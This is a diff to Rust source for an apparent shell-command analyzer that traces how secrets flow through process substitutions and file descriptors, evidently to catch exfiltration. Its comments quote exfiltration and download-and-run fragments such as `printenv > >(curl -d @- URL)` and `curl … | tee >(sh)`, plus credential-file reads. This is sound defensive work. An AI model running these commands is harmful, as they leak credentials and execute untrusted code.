@@ -246,11 +246,10 @@ pub(crate) struct Walker<'a> {
     /// own output (`{ echo "$tok"; }`, a loop body's `printf '%s' "$l"`): the compound
     /// command's output carries it to what it is piped into.
     pub group_out: Option<crate::model::FlowSource>,
-    /// Descriptors other than 0 opened on a secret for reading anywhere on the line (`exec
-    /// 3< .env`, `cmd 4< ~/.aws/credentials`), with the secret: `read -u 3`, `mapfile -u 4`
-    /// and `read <&3` read it. Kept for the whole line (a descriptor opened in one branch
-    /// may be read in another): it only ever makes data secret.
-    pub fd_secrets: Vec<(String, crate::model::FlowSource)>,
+    /// The secret a `>(…)` written by the command being resolved receives: its standard input
+    /// when that is secret (`tee >(curl -d @- URL) < KEY` copies its input into the
+    /// substitution). Set by `Walker::command` while it resolves its words.
+    pub psub_input: Option<crate::model::FlowSource>,
     /// `trap` handlers waiting for the end of their shell (see `Walker::run_exit_traps`).
     pub exit_traps: Vec<crate::deferred::ExitTrap>,
     /// The shell process being walked (0: the line's own shell; see `Walker::in_shell`).
@@ -294,6 +293,30 @@ fn read_only_redirect<'t>(node: Node<'t>, src: &str) -> Option<Node<'t>> {
         }
     }
     file.filter(|_| operator == Some("<"))
+}
+
+/// The `>(…)` a redirect sends standard output (or everything: `&>`) into (`> >(cmd)`, `1>
+/// >(cmd)`, `>> >(cmd)`); `None` for any other redirect, including `2> >(cmd)` (what a
+/// statement prints on its error stream is not what its output carries).
+fn output_substitution<'t>(node: Node<'t>, src: &str) -> Option<Node<'t>> {
+    if node.kind() != "file_redirect" {
+        return None;
+    }
+    let mut cursor = node.walk();
+    let mut operator = "";
+    let mut descriptor = None;
+    let mut destination = None;
+    for child in node.children(&mut cursor) {
+        match child.kind() {
+            "file_descriptor" if operator.is_empty() => descriptor = Some(text(child, src)),
+            "process_substitution" => destination = Some(child),
+            _ if !child.is_named() && operator.is_empty() => operator = child.kind(),
+            _ => {}
+        }
+    }
+    let stdout = matches!(operator, "&>" | "&>>")
+        || (matches!(operator, ">" | ">>" | ">|") && descriptor.is_none_or(|d| d == "1"));
+    destination.filter(|d| stdout && text(*d, src).starts_with(">("))
 }
 
 /// A compound command's output given the secret it is taken to print: that secret when
@@ -424,7 +447,7 @@ impl<'a> Walker<'a> {
             shell_stdin: Producer::Nothing,
             group_items: None,
             group_out: None,
-            fd_secrets: Vec::new(),
+            psub_input: None,
             shell: 0,
             shells: 0,
             fast_path: true,
@@ -842,18 +865,35 @@ impl Walker<'_> {
         scope: &mut Scope,
         depth: usize,
     ) -> Producer {
+        // `>(cmd)` reads what the outer command writes into it (`curl … | tee >(sh)` runs the
+        // download): data only known at run time, so its statements' input is opaque rather
+        // than nothing — or the secret the outer command copies into it (`tee >(curl -d @-
+        // URL) < KEY`, see `Walker::psub_input`).
+        let input = if text(node, src).starts_with(">(") {
+            self.psub_input
+                .clone()
+                .map_or(Producer::Opaque, Producer::Secret)
+        } else {
+            Producer::Nothing
+        };
+        self.fed_substitution(node, src, scope, depth, input)
+    }
+
+    /// Runs the statements of a substitution with `input` as their standard input; returns
+    /// what they print. A `> >(cmd)` redirect feeds `cmd` what its statement printed (see
+    /// `Walker::with_redirects`).
+    pub(crate) fn fed_substitution(
+        &mut self,
+        node: Node<'_>,
+        src: &str,
+        scope: &mut Scope,
+        depth: usize,
+        input: Producer,
+    ) -> Producer {
         let label = if node.kind() == "process_substitution" {
             "<(…)"
         } else {
             "$(…)"
-        };
-        // `>(cmd)` reads what the outer command writes into it (`curl … | tee >(sh)` runs the
-        // download): data only known at run time, so its statements' input is opaque rather
-        // than nothing.
-        let input = if text(node, src).starts_with(">(") {
-            Producer::Opaque
-        } else {
-            Producer::Nothing
         };
         let mut inner = scope.clone();
         inner.via.push(label.to_owned());
@@ -998,7 +1038,14 @@ impl Walker<'_> {
         let (sockets, written, before) =
             (self.sockets.len(), self.written.len(), self.commands.len());
         let records = self.write_records.len();
+        // `cmd > >(sink)`: the sink reads what `cmd` prints, so it runs after `cmd` with that
+        // output as its input (`printenv > >(curl -d @- URL)`).
+        let mut fed = Vec::new();
         for redirect in redirects {
+            if let Some(sink) = output_substitution(*redirect, src) {
+                fed.push(sink);
+                continue;
+            }
             if let Some(p) = self.redirect(*redirect, src, scope, depth, &mut continuations) {
                 input = p;
             }
@@ -1008,6 +1055,9 @@ impl Walker<'_> {
             Some(b) => self.stmt_io(b, src, scope, input, depth + 1),
             None => Producer::Nothing,
         };
+        for sink in fed {
+            let _ = self.fed_substitution(sink, src, scope, depth + 1, output.clone());
+        }
         self.settle_writes(records, &output);
         self.files.stdin_file = None;
         self.after_redirects(before, sockets, written, &output, scope);
@@ -1234,7 +1284,8 @@ impl Walker<'_> {
                 match operator {
                     "<&" if word.exact && is_fd(&word.text) => {
                         // `read l <&3`: what descriptor 3 was opened on, when that is a secret.
-                        self.fd_secrets
+                        self.files
+                            .fd_secrets
                             .iter()
                             .find(|(fd, _)| *fd == word.text)
                             .map(|(_, source)| Producer::Secret(source.clone()))
@@ -1244,7 +1295,7 @@ impl Walker<'_> {
                         if let (Producer::Secret(source), Some(fd)) = (&p, descriptor)
                             && fd != "0"
                         {
-                            self.fd_secrets.push((fd.to_owned(), source.clone()));
+                            self.files.fd_secrets.push((fd.to_owned(), source.clone()));
                         }
                         if let (Producer::LocalFile, crate::targets::Cwd::Known(cwd)) =
                             (&p, &scope.cwd)
